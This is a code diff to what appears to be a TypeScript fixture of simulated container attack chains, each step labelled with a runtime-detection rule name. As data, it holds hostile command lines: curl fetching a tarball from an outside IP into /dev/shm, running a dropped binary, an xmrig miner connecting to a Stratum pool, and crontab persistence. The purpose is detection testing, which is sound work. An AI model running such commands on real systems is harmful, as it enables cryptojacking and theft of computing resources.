@@ -24,7 +24,7 @@ export interface Chain {
 }
 
 const DROPPED = { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' };
-const WEB_SHELL = '/bin/sh -c {hex}';
+const WEB_SHELL = '/bin/sh -c id';
 const INTRUDER = 'intern@acme.example';
 
 export const CHAINS: readonly Chain[] = [
@@ -57,9 +57,9 @@ export const CHAINS: readonly Chain[] = [
       { after: 35, act: { rule: 'Launch Package Management Process in Container', run: ['/bin/bash -l', '/usr/bin/apt-get install -y curl cron'], call: 'execve' } },
       { after: 50, act: { rule: 'Launch Ingress Remote File Copy Tools in Container', run: ['/bin/bash -l', '/usr/bin/curl -sL http://203.0.113.99/x.tgz -o /dev/shm/x.tgz'], call: 'execve' } },
       { after: 20, act: { rule: 'Execution from /dev/shm', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8'], call: 'execve', file: '/dev/shm/.x/setup', cwd: '/dev/shm/.x' } },
-      { after: 8, act: { rule: 'Drop and execute new binary in container', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 4{hex}'], call: 'execve', fields: DROPPED } },
-      { after: 1, act: { rule: 'Known Cryptominer Process Executed', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 4{hex}'], call: 'execve', fields: DROPPED } },
-      { after: 1, act: { rule: 'Detect crypto miners using the Stratum protocol', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 4{hex}'], call: 'execve', fields: DROPPED }, times: 4, every: 60 },
+      { after: 8, act: { rule: 'Drop and execute new binary in container', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6f'], call: 'execve', fields: DROPPED } },
+      { after: 1, act: { rule: 'Known Cryptominer Process Executed', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6f'], call: 'execve', fields: DROPPED } },
+      { after: 1, act: { rule: 'Detect crypto miners using the Stratum protocol', run: ['/bin/bash -l', '/dev/shm/.x/setup --threads 8', '/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333 -u 48edfHu7V9Z84YzzMa6f'], call: 'execve', fields: DROPPED }, times: 4, every: 60 },
       { after: 30, act: { rule: 'Network Connection outside Local Subnet', run: ['/tmp/.cache/xmrig -o stratum+tcp://pool.example:3333'], call: 'connect', reach: ['203.0.113.200', 3333] } },
       { after: 40, act: { rule: 'Schedule Cron Jobs', run: ['/bin/bash -l', '/usr/bin/crontab -'], call: 'openat', file: '/var/spool/cron/crontabs/jovyan' } },
     ],
